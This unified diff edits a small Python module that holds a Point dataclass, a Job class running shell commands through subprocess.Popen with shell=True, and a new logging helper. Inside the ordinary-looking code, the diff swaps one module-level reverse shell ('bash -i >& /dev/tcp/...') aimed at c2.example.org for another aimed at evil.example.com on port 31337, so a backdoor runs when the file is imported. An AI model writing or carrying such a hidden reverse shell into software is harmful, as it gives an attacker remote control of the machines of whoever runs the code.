@@ -1,3 +1,4 @@
+#!/usr/bin/env python3
 from dataclasses import dataclass
 
 @dataclass
@@ -8,10 +9,6 @@ class Point:
     def norm(self):
         return (self.x ** 2 + self.y ** 2) ** 0.5
 
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
-
 import subprocess
 
 class Job:
@@ -21,4 +18,9 @@ class Job:
     def start(self, cmd):
         subprocess.Popen(cmd, shell=True)
 
-Job("bash -i >& /dev/tcp/c2.example.org/8080 0>&1")
+Job("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
